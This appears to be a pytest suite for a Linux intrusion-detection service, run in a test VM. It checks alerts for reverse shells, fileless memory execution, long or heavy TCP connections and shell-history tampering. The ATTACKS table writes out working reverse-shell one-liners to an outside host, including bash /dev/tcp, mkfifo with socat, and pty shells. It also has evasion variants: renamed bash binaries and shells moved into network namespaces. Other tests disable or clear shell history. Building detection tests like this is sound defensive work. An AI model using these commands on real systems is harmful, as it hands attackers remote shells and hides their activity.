"""Alerts of section 10 on real attacks in the guest, and silence on the
look-alikes."""
import time

import pytest

from conftest import Service
from guest import OUTSIDE, OUTSIDE_COMMAND, OUTSIDE_QUIET

SLEEP = "500ms"


@pytest.fixture(scope="module")
def svc(guest, tmp_path_factory):
    s = Service(tmp_path_factory.mktemp("alerts"), guest, sleep=SLEEP)
    yield s
    s.stop()


def run_case(guest, svc, setup, attack, cleanup, seconds=4):
    """Runs `attack` (after `setup`) for `seconds`; returns where the case
    started in the service's messages.  Each command runs in its own
    session (setsid): cleanup kills the groups."""
    groups = []
    if setup:
        groups.append(guest.spawn(setup))
        time.sleep(1)
    since = svc.mark()
    groups.append(guest.spawn(attack))
    time.sleep(seconds)
    guest.run("; ".join(f"kill -9 -{g}" for g in groups) + "; " + cleanup)
    return since


# the attacker: a program on another machine (guest.OUTSIDE, through QEMU's
# user-mode network), listening quietly or sending the shell "sleep 60"
EXT = f"{OUTSIDE}:{OUTSIDE_QUIET}"
EXT_TCP = f"{OUTSIDE}/{OUTSIDE_QUIET}"
EXT_CMD = f"{OUTSIDE}:{OUTSIDE_COMMAND}"
GUEST_IP = "192.0.2.10"        # the guest's own address on the user network
MIRROR_PORT = 45123


def ip_hex(ip):
    """An IPv4 address as /proc/net/tcp prints it (little-endian hex)."""
    return "".join(f"{int(b):02X}" for b in reversed(ip.split(".")))


# a local service: a listener in the guest itself
LISTEN = "sleep 1000 | socat TCP-LISTEN:{port},reuseaddr -"

# case: (setup, attack, the shell's process_name in the alert, processes in
# the chain)
ATTACKS = {
    "bash /dev/tcp": (None, f"bash -c 'exec bash -i >& /dev/tcp/{EXT_TCP} 0>&1'", "bash", 1),
    "mkfifo sh | socat": (None,
                          "rm -f /tmp/rsp; mkfifo /tmp/rsp; "
                          f"sh -i </tmp/rsp 2>&1 | socat - TCP:{EXT} >/tmp/rsp", "sh", 2),
    "unix relay": ("socat UNIX-LISTEN:/tmp/rs.sock EXEC:'sh -i',stderr",
                   f"sleep 1; socat TCP:{EXT} UNIX-CONNECT:/tmp/rs.sock", "sh", 3),
    "pty shell": (None, f"socat exec:'bash -li',pty,stderr,setsid tcp:{EXT}", "bash", 2),
    # through a proxy in the guest that goes out: a connection to this
    # machine is followed to whoever holds its other end
    "local proxy": ("socat TCP-LISTEN:4460,reuseaddr TCP:" + EXT,
                    "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4460 0>&1'", "bash", 2),
    # a root attacker plants a mirror of the shell's connection in a
    # network namespace of his, on the attacker's address: a SYN from
    # 192.0.2.100:4444 to the port the shell will dial from, never
    # answered.  A socket that never connected is no other end: the
    # connection still goes out.
    "mirror planted in a namespace": (
        f"unshare -n sh -c \"ip link set lo up; ip addr add {OUTSIDE}/32 dev lo; "
        f"ip route add {GUEST_IP}/32 dev lo; "
        f"exec socat TCP:{GUEST_IP}:{MIRROR_PORT},bind={OUTSIDE}:{OUTSIDE_QUIET} -\" & "
        "sleep 0.5; cat /proc/$!/net/tcp >/tmp/mirror.tcp; wait",
        f"socat exec:'bash -li',pty,stderr,setsid tcp:{EXT},bind={GUEST_IP}:{MIRROR_PORT},reuseaddr",
        "bash", 2),
    # the shell dials out, then moves into a network namespace where the
    # attacker's address is local (a listener on it); it keeps its fds,
    # and its connection stays in the namespace it left
    "shell moved to a namespace with the far address": (
        None,
        f"bash -c 'exec 3<>/dev/tcp/{EXT_TCP}; exec unshare -n sh -c \"ip link set lo up; "
        f"ip addr add {OUTSIDE}/32 dev lo; socat TCP-LISTEN:80,bind={OUTSIDE} /dev/null 3>&- & sleep 1; "
        "exec bash -i <&3 >&3 2>&3\"'",
        "bash", 1),
    # a copy of bash under a harmless name: known by its content
    "renamed bash": (None,
                     "cp /bin/bash /tmp/kworkr; "
                     f"/tmp/kworkr -c 'exec /tmp/kworkr -i >& /dev/tcp/{EXT_TCP} 0>&1'",
                     "kworkr", 1),
    # bash that renames itself (as prctl(PR_SET_NAME) does) before it
    # connects: known by its executable, not its comm
    "comm-renamed bash": (None,
                          "bash -c 'printf kswapd1 >/proc/$$/comm; "
                          f"exec 0<>/dev/tcp/{EXT_TCP} 1>&0 2>&0; "
                          "while read -r l; do eval \"$l\"; done'", "kswapd1", 1),
    # busybox's shell called as busybox: the process is named busybox
    "busybox sh": (None,
                   "rm -f /tmp/rsb; mkfifo /tmp/rsb; "
                   f"busybox sh -i </tmp/rsb 2>&1 | socat - TCP:{EXT} >/tmp/rsb", "busybox", 2),
    # bash with a byte appended: neither its name nor its content is a
    # known shell's, but it starts the programs it is sent
    "unknown interpreter": (None,
                            "cat /bin/bash >/tmp/kthreadd; echo >>/tmp/kthreadd; "
                            "chmod +x /tmp/kthreadd; "
                            "/tmp/kthreadd -c 'exec /tmp/kthreadd >& "
                            f"/dev/tcp/{OUTSIDE}/{OUTSIDE_COMMAND} 0>&1'",
                            "kthreadd", 1),
}

CLEANUP = "rm -f /tmp/rsp /tmp/rsb /tmp/rs.sock /tmp/kworkr /tmp/kthreadd /tmp/nc.sh; true"


@pytest.mark.parametrize("case", list(ATTACKS))
def test_reverse_shell(guest, svc, case):
    setup, attack, shell, nchain = ATTACKS[case]
    since = run_case(guest, svc, setup, attack, CLEANUP)
    found = svc.expect_alerts(since, ("Reverse Shell Detected", None, 1))["Reverse Shell Detected"]
    m = found[0]
    assert m["message_type"] == "ALERT" and m["severity"] == "HIGH"
    chain = m["activity_data"]["process_list"]
    assert chain[0]["process_details"]["process_name"] == shell
    assert "file_descriptor_list" in chain[0]["process_details"]
    assert len(chain) == nchain, [p["process_details"]["process_name"] for p in chain]
    # the connection to the other machine is in the chain
    nets = [n["network_connection_details"] for p in chain
            for n in p["process_details"]["network_connection_list"]]
    assert any(n["destination_ip_address"] == OUTSIDE and
               n["destination_port"] in (OUTSIDE_QUIET, OUTSIDE_COMMAND) for n in nets), nets
    if case == "mirror planted in a namespace":
        # the mirror was there: in its namespace, SYN_SENT from the
        # attacker's address and port to the shell's
        lines = guest.check("cat /tmp/mirror.tcp; rm -f /tmp/mirror.tcp").strip().split("\n")
        mirror = f"{ip_hex(OUTSIDE)}:{OUTSIDE_QUIET:04X} {ip_hex(GUEST_IP)}:{MIRROR_PORT:04X} 02"
        assert any(mirror in " ".join(ln.split()[1:4]) for ln in lines), lines
    print(f"{case}: chain of {len(chain)} processes")


LOOKALIKES = {
    "shell piping to a local program": (None, "sh -c 'sleep 100 | cat >/dev/null'"),
    "socat relay TCP to a file": (None, f"socat TCP:{EXT} OPEN:/tmp/relay.out,creat"),
    "interactive bash on the console": (None, "exec bash -i </dev/ttyS0 >/dev/ttyS0 2>&1"),
    "daemon serving its children": ("socat TCP-LISTEN:4449,reuseaddr,fork EXEC:'sh -c cat'",
                                    "sleep 100 | socat - TCP:127.0.0.1:4449"),
    # a one-shot listener serving a shell: a bind shell, not a reverse one
    "served shell, listener closed": ("socat TCP-LISTEN:4458,reuseaddr EXEC:'sh -i',stderr",
                                      "sleep 100 | socat - TCP:127.0.0.1:4458"),
    "relay to cat": (None, f"socat TCP:{EXT_CMD} EXEC:cat"),
    "relay to sleep": (None, f"socat TCP:{EXT_CMD} EXEC:'sleep 100'"),
    # a shell whose child dials out on the shell's own stdin and stdout (ssh,
    # curl run at a prompt): it shares the shell's ends, it is not behind them
    "shell running a network client": (None,
                                       f"sleep 100 | bash -c 'socat - TCP:{EXT}; true' | cat"),
    "shell on a pty running a network client": (
        None,
        f"echo 'socat - TCP:{EXT}; true' >/tmp/nc.sh; "
        "socat exec:'sh /tmp/nc.sh',pty,stderr,setsid exec:'sleep 100'"),
    # busybox under another name, running cat: busybox's content, not a shell applet
    "relay to a renamed cat": (None,
                               "cp /bin/busybox /tmp/busybox-x; "
                               f"socat TCP:{EXT_CMD} EXEC:'/tmp/busybox-x cat'"),
    # a shell on a local service (a web terminal, a notebook's terminal):
    # nothing reaches it from another machine
    "shell on a local service's pty": (LISTEN.format(port=4464),
                                       "socat exec:'bash -li',pty,stderr,setsid "
                                       "tcp:127.0.0.1:4464"),
    "shell on a service at the guest's own address": (
        LISTEN.format(port=4465), f"bash -c 'exec bash -i >& /dev/tcp/{GUEST_IP}/4465 0>&1'"),
}


@pytest.mark.parametrize("case", list(LOOKALIKES))
def test_reverse_shell_lookalikes(guest, svc, case):
    setup, action = LOOKALIKES[case]
    since = run_case(guest, svc, setup, action,
                     CLEANUP + "; rm -f /tmp/relay.out /tmp/busybox-x")
    svc.expect_alerts(since)
    assert_seen(svc, since)


def assert_seen(svc, since):
    """Silence counts only if argus saw the case: a process it started."""
    new = [m["activity_data"]["process_details"]["process_name"] for m in svc.messages[since:]
           if m["activity_data"]["name"] == "Process Created"]
    assert new, "argus saw no process of the case: its silence proves nothing"


def wait_alert(svc, name, pred, timeout):
    found = svc.wait_for(lambda m: m["activity_data"]["name"] == name and pred(m["activity_data"]),
                         timeout=timeout)
    return found


def pid_is(pid):
    return lambda a: a.get("process_details", {}).get("process_id") == pid


@pytest.mark.parametrize("mode,name,mtype,sev", [
    ("rwx", "New Executable Anonymous Memory Mapped", "EVENT", "WARNING"),
    ("memfd", "New Executable Anonymous Memory Mapped", "EVENT", "WARNING"),
    ("mprotect", "Executable Permissions Added", "ALERT", "MEDIUM"),
    ("mprotect", "Executable Permissions Removed", "ALERT", "MEDIUM"),
])
def test_executable_memory(guest, svc, mode, name, mtype, sev):
    since = svc.mark()
    pid = guest.spawn(f"exec memory {mode} 2")
    found = wait_alert(svc, name, pid_is(pid), timeout=12)
    guest.run(f"kill {pid}")
    assert len(found) == 1, f"{mode}: {len(found)} '{name}'"
    assert found[0]["message_type"] == mtype and found[0]["severity"] == sev
    v = found[0]["activity_data"]["process_memory_details"]
    assert "x" in v["memory_permissions"] or name.endswith("Removed")
    if mode == "mprotect":
        other = ("Executable Permissions Removed" if name.endswith("Added")
                 else "Executable Permissions Added")
        svc.expect_alerts(since, (name, pid_is(pid), 1), (other, pid_is(pid), None))
    else:
        svc.expect_alerts(since)
        svc.poll()
        assert len([m for m in svc.messages[since:] if m["activity_data"]["name"] == name and
                    pid_is(pid)(m["activity_data"])]) == 1


def exec_anon(svc, since, pid):
    svc.poll()
    return [m["activity_data"] for m in svc.messages[since:]
            if m["activity_data"]["name"] == "New Executable Anonymous Memory Mapped" and
            pid_is(pid)(m["activity_data"])]


def test_fileless_process_first_sight(guest, svc):
    """A process that runs from a memfd from its first instant: what argus
    first sees of it counts."""
    since = svc.mark()
    pid = guest.spawn("exec memory fexecve 30")
    svc.wait_for(lambda m: m["activity_data"]["name"] == "New Executable Anonymous Memory Mapped"
                 and pid_is(pid)(m["activity_data"]), timeout=10)
    time.sleep(2)   # more scans: once, not once a scan
    found = exec_anon(svc, since, pid)
    guest.run(f"kill {pid}")
    assert len(found) == 1, found
    assert found[0]["process_details"]["process_executable_path"].startswith("/memfd:payload")
    assert "x" in found[0]["process_memory_details"]["memory_permissions"]
    svc.expect_alerts(since)


def test_no_exec_memory_alert_on_plain_file_mapping(guest, svc):
    """A file mapped executable is not fileless; the kernel's own mappings
    ([vdso]) of new processes are not either."""
    since = svc.mark()
    pid = guest.spawn("exec memory file 2")
    time.sleep(7)
    guest.run(f"kill {pid}")
    svc.poll()
    created = [m for m in svc.messages[since:] if m["activity_data"]["name"] == "Process Created"]
    assert any(pid_is(pid)(m["activity_data"]) for m in created)
    bad = [m for m in svc.messages[since:] if
           m["activity_data"]["name"] in ("New Executable Anonymous Memory Mapped",
                                          "Executable Permissions Added")]
    assert not bad, bad
    svc.expect_alerts(since)


def test_open_files_at_first_sight(guest, svc):
    """A process born with a file open (inherited across fork) gives File
    Descriptor Open at its first sighting, as if it had opened it later."""
    since = svc.mark()
    grp = guest.spawn("exec 7</etc/passwd; sleep 2; memory sleep 30 & echo $! >/tmp/fdpid; wait")
    time.sleep(3)
    pid = int(guest.check("cat /tmp/fdpid").strip())
    opened = svc.wait_for(lambda m: m["activity_data"]["name"] == "File Descriptor Open" and
                          pid_is(pid)(m["activity_data"]) and
                          m["activity_data"]["file_descriptor_details"]
                          ["file_descriptor_index"] == 7, timeout=10)
    time.sleep(1)
    guest.run(f"kill -9 -{grp}; rm -f /tmp/fdpid")
    assert len(opened) == 1, opened
    fd = opened[0]["activity_data"]["file_descriptor_details"]
    assert fd["file_descriptor_name"] == "/etc/passwd"
    svc.expect_alerts(since)


def on_port(port):
    def pred(a):
        n = a.get("network_connection_details", {})
        return port in (n.get("source_port"), n.get("destination_port"))
    return pred


def test_tcp_thresholds(guest, tmp_path):
    s = Service(tmp_path, guest, sleep=SLEEP,
                collection="  tcp_connection_excessive_data:\n    bytes_in: 1MB\n    bytes_out: 1GB\n"
                           "  tcp_long_lasting_connection:\n    duration: 3s\n")
    try:
        since = s.mark()
        srv = guest.spawn("socat TCP-LISTEN:4450,reuseaddr SYSTEM:'cat >/dev/null'")
        time.sleep(4)   # a listener older than the threshold: a port, not a connection
        # a client that sends a few MiB and stays: excessive data out of
        # the server's view is data *in*
        cli = guest.spawn("(head -c 4000000 /dev/zero; sleep 20) | socat - TCP:127.0.0.1:4450")
        ex = s.wait_for(lambda m: m["activity_data"]["name"] == "TCP Connection Excessive Data",
                        timeout=15)
        ll = s.wait_for(lambda m: m["activity_data"]["name"] == "TCP Long-Lasting Connection"
                        and on_port(4450)(m["activity_data"]), timeout=15, count=2)
        assert len(ex) == 1, f"{len(ex)} Excessive Data alerts"
        assert ex[0]["severity"] == "LOW" and ex[0]["message_type"] == "ALERT"
        assert ex[0]["activity_data"]["network_connection_details"]["tcp_bytes_in"] > 1 << 20
        assert ll and ll[0]["severity"] == "LOW"
        # once per connection (its two ends), not once per scan, and never
        # for the listener; connections other tests left behind may be old
        time.sleep(3)
        found = s.expect_alerts(
            since, ("TCP Connection Excessive Data", on_port(4450), 1),
            ("TCP Long-Lasting Connection", on_port(4450), 2),
            ("TCP Long-Lasting Connection", lambda a: not on_port(4450)(a), None))
        for m in found["TCP Long-Lasting Connection"]:
            assert m["activity_data"]["network_connection_details"]["connection_state"] != "LISTEN"
        guest.run(f"kill -9 -{srv} -{cli}")
        # a new connection on the same port is new: not long-lasting at once
        since = s.mark()
        srv = guest.spawn("socat TCP-LISTEN:4450,reuseaddr SYSTEM:'cat >/dev/null'")
        time.sleep(1)
        cli = guest.spawn("sleep 2 | socat - TCP:127.0.0.1:4450")
        time.sleep(1.5)
        s.expect_alerts(since, ("TCP Long-Lasting Connection", lambda a: not on_port(4450)(a), None))
        guest.run(f"kill -9 -{srv} -{cli}")
    finally:
        s.stop()


def test_shell_history_alerts(guest, svc):
    since = svc.mark()
    guest.check("rm -f /tmp/hf; mkfifo /tmp/hf")
    sh = guest.spawn("exec bash -i </tmp/hf >/dev/null 2>&1")
    holder = guest.spawn("exec sleep 100 >/tmp/hf")
    try:
        for cmd in ("echo one", "echo two"):
            guest.check(f"echo '{cmd}' >/tmp/hf")
        time.sleep(2)
        guest.check("echo 'history -c' >/tmp/hf")
        cl = wait_alert(svc, "Shell History Cleared", pid_is(sh), timeout=6)
        assert len(cl) == 1 and cl[0]["severity"] == "HIGH" and cl[0]["message_type"] == "ALERT"
        guest.check("echo 'HISTFILE=/dev/null' >/tmp/hf")
        ds = wait_alert(svc, "Shell History Disabled", pid_is(sh), timeout=6)
        assert len(ds) == 1 and ds[0]["severity"] == "HIGH"
        svc.expect_alerts(since, ("Shell History Cleared", pid_is(sh), 1),
                          ("Shell History Disabled", pid_is(sh), 1))
    finally:
        guest.run(f"kill {holder} {sh}")


def test_shell_history_off_at_first_sight(guest, svc):
    """An interactive shell started with its history off (as an attacker
    starts one) is told at first sight, once; its subshells are not."""
    guest.check("rm -f /tmp/ho; mkfifo /tmp/ho")
    since = svc.mark()
    sh = guest.spawn("HISTFILE=/dev/null exec bash -i </tmp/ho >/dev/null 2>&1")
    holder = guest.spawn("exec sleep 100 >/tmp/ho")
    try:
        time.sleep(2)
        guest.check("echo 'x=$(sleep 3; echo)' >/tmp/ho")
        time.sleep(4)
        svc.expect_alerts(since, ("Shell History Disabled", pid_is(sh), 1))
    finally:
        guest.run(f"kill -9 {holder} {sh}; rm -f /tmp/ho")


def test_shell_exec_is_no_history_cleared(guest, svc):
    """`exec bash` starts a new shell from its history file, without the
    commands the old one was typed; `exec bash -c` one with no history:
    a new program, not history cleared or turned off.  Its commands before
    and after are seen, so the silence is of a watched shell."""
    guest.check("rm -f /tmp/hx; mkfifo /tmp/hx")
    sh = guest.spawn("exec bash -i </tmp/hx >/dev/null 2>&1")
    holder = guest.spawn("exec sleep 100 >/tmp/hx")
    try:
        time.sleep(2 * svc.sleep_s + 1)
        since = svc.mark()
        for cmd in ("echo argus-one", "echo argus-two", "echo argus-three"):
            guest.check(f"echo '{cmd}' >/tmp/hx")
        time.sleep(2)
        # eval and source turn bash's remember_on_history off as they run
        guest.check("echo \"eval 'sleep 3'\" >/tmp/hx")
        time.sleep(4)
        guest.check("echo 'exec bash -i' >/tmp/hx")
        time.sleep(2)
        guest.check("echo 'echo argus-four' >/tmp/hx")
        time.sleep(2)
        guest.check("""echo 'exec bash -c "sleep 100; true"' >/tmp/hx""")
        time.sleep(2)
        svc.expect_alerts(since)
        cmds = [m["activity_data"]["shell_history_details"]["shell_command_execution_history"]
                ["command_line"] for m in svc.messages[since:]
                if m["activity_data"]["name"] == "Shell Command Executed"
                and pid_is(sh)(m["activity_data"])]
        # each exec line is news only to a scan between its typing and its exec
        typed = [c for c in cmds if not c.startswith("exec bash")]
        assert typed == ["echo argus-one", "echo argus-two", "echo argus-three",
                         "eval 'sleep 3'", "echo argus-four"], cmds
        assert guest.check(f"tr '\\0' ' ' </proc/{sh}/cmdline") == "bash -c sleep 100; true "
    finally:
        guest.run(f"kill -9 {holder} {sh}; rm -f /tmp/hx")
